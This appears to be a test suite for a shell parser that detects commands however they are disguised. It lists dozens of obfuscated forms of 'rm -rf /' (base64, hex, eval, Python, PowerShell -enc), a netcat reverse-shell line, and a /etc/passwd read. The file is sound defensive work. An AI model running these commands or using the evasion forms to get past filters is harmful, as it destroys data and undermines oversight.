import assert from 'node:assert/strict'
import test from 'node:test'

import { commandsIn } from '../../src/shell/shell.ts'

const wanted = ['rm', '-rf', '/'].join(' ')
const encoded = btoa(wanted)
const hex = [...wanted].map((char) => char.charCodeAt(0).toString(16)).join('')

/** Ways to write one command. */
const written: readonly (readonly [how: string, script: string])[] = [
  ['plainly', wanted],
  ['with escapes', 'r\\m -r\\f /'],
  ['with quotes inside', `r''m -rf "/"`],
  ['in braces', '{rm,-rf,/}'],
  ['with IFS', 'rm${IFS}-rf$IFS/'],
  ['from variables', 'a=r;b=m; $a$b -rf /'],
  ['from an array', 'c=(r m); ${c[0]}${c[1]} -rf /'],
  ['in ANSI-C quotes', "$'\\x72\\155' -rf /"],
  ['with an empty expansion', 'r$@m -r$*f /'],
  ['with a slice', 'x=arms; ${x:1:2} -rf /'],
  ['with a cut', 'x=rm.old; ${x%.old} -rf /'],
  ['with a replacement', 'x=rXm; ${x/X/} -rf /'],
  ['by a default', '${nothing:-rm} -rf /'],
  ['by another path', '/usr//bin/./rm -rf /'],
  ['by a wildcard', '/b?n/r[l-n] -rf /'],
  ['by an alias', "alias x='rm -rf'; x /"],
  ['behind wrappers', 'sudo -u root env A=b nohup nice -n 5 timeout 9 rm -rf / &'],
  ['by find', 'find . -name x -exec rm -rf / \\;'],
  ['by xargs', 'ls | xargs -0 rm -rf /'],
  ['in a group', '{ (true && ! rm -rf /) ; }'],
  ['in a function', 'f() { rm -rf /; }; f'],
  ['in a condition', 'if true; then rm -rf /; fi'],
  ['in a loop', 'for i in 1 2; do rm -rf /; done'],
  ['after a comment', '# nothing here\nrm -rf /'],
  ['over two lines', 'rm \\\n -rf /'],
  ['in a substitution', 'echo $(rm -rf /)'],
  ['in back quotes', 'echo `rm -rf /`'],
  ['by bash -c', `bash -lc '${wanted}'`],
  ['by eval', `eval "${wanted}"`],
  ['in a here-string', `sh <<< '${wanted}'`],
  ['in a here-document', `bash <<'END'\n${wanted}\nEND\necho done`],
  ['through cat', `cat <<END | bash\n${wanted}\nEND`],
  ['in a process substitution', `bash <(echo ${wanted})`],
  ['through a file', `echo '${wanted}' > /tmp/x; sh /tmp/x`],
  ['in base64', `echo ${encoded} | base64 -d | sh`],
  ['in base64, by eval', `eval "$(base64 --decode <<< ${encoded})"`],
  ['in base64, by openssl', `echo ${encoded} | openssl base64 -d | bash -s`],
  ['in hex', `xxd -r -p <<< ${hex} | sh`],
  ['by printf', "printf '\\162\\155 %s /' -rf | sh"],
  ['by echo -e', "echo -e '\\x72\\x6d -rf /' | sh"],
  ['backwards', `rev <<< '${[...wanted].toReversed().join('')}' | bash`],
  ['by tr', "echo 'ez -es /' | tr 'a-z' 'n-za-m' | sh"],
  ['by sed', `echo 'Xm -rf /' | sed 's/X/r/' | sh`],
  ['by which', '$(which rm) -rf /'],
  ['in Python', `python3 -c "import os; os.system('${wanted}')"`],
  ['in Python, as a list', `python -c "import subprocess; subprocess.run(['rm', '-rf', '/'])"`],
  ['in Node', `node -e "require('child_process').execSync('${wanted}')"`],
  ['over SSH', `ssh -i key host ${wanted}`],
]

for (const [how, script] of written)
  test(`a command written ${how} is read`, () => {
    const { commands, cut } = commandsIn(script)
    const found = commands.some(({ name, argv }) => `${name} ${argv.slice(1).join(' ')}` === wanted)
    assert.ok(found, JSON.stringify(commands.map(({ argv }) => argv)))
    assert.equal(cut, false)
  })

test('PowerShell: an encoded command is read', () => {
  const bytes = [...wanted].flatMap((char) => [char.charCodeAt(0), 0])
  const { commands } = commandsIn(`powershell -nop -enc ${btoa(String.fromCharCode(...bytes))}`)
  assert.ok(commands.some(({ argv, decoded }) => argv.join(' ') === wanted && decoded))
})

test('what is only said is not run', () => {
  for (const script of [
    `git commit -m "never ${wanted}"`,
    `echo '${wanted}'`,
    `ls # ${wanted}`,
    `grep -r '${wanted}' docs`,
  ])
    assert.ok(!commandsIn(script).commands.some(({ name }) => name === 'rm'), script)
})

test('redirections, pipes and background are kept', () => {
  const [first, second] = commandsIn('cat < in.txt 2>/dev/null | nc -e /bin/sh 192.0.2.1 9 >> log &').commands
  assert.deepEqual(first?.redirects, [
    { op: '<', target: 'in.txt' },
    { op: '>', target: '/dev/null' },
  ])
  assert.deepEqual(second?.upstream, ['cat'])
  assert.equal(second?.background, true)
})

const tricks = (script: string) => [...commandsIn(script).tricks]

test('only scripts that hide something count as tricks', () => {
  assert.deepEqual(tricks('while IFS= read -r line; do echo "$line"; done; IFS=$\'\\n\\t\' ls *.sh'), [])
  assert.deepEqual(tricks('cat$IFS/etc/passwd'), ['ifs', 'variable'])
  assert.deepEqual(tricks('/bin/c?t x'), ['glob'])
})

test('whatever is written, reading ends: nesting, repetition and size are bounded and told', () => {
  for (const bad of ['$(', '{a,', '`', '"$(', '\\', '<<a ', '${a:-', '{a..z}', 'a=b;', "'", '((', 'f(){', '<(']) {
    const { commands } = commandsIn(bad.repeat(20_000))
    assert.ok(commands.length <= 512)
  }
  assert.equal(commandsIn('$('.repeat(40) + 'ls' + ')'.repeat(40)).cut, true)
  assert.equal(commandsIn(`${'a'.repeat(70_000)} b`).cut, true)
  assert.equal(commandsIn('ls\n'.repeat(2000)).cut, true)
})
